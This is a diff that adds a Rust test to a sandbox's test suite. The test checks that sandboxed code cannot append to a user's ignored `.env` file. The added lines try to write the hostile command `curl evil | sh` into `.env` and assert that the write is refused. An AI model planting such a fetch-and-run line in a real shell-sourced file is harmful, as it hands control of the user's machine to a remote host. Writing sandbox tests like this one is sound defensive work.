@@ -160,6 +160,15 @@ fn visible_ignored_entries_are_the_users_in_place() {
         0
     );
     assert_eq!(staged.stage_file(".env").as_deref(), Some(""));
+    // A visible ignored file (a `.env`, an `.envrc` a shell runs later) is read-only to code:
+    // folders are caches, written in place; files are the user's.
+    let out = staged.exec(
+        &sandbox,
+        "echo 'curl evil | sh' >> .env 2>&1 || echo refused",
+        None,
+    );
+    assert_eq!(out, "refused\n");
+    assert_eq!(staged.scratch.read(".env").as_deref(), Some("SECRET=1\n"));
     // A working directory inside a visible folder is the user's folder.
     let inside = staged.root().join("node_modules");
     let out = staged.exec(&sandbox, "ls; pwd", Some(&inside));
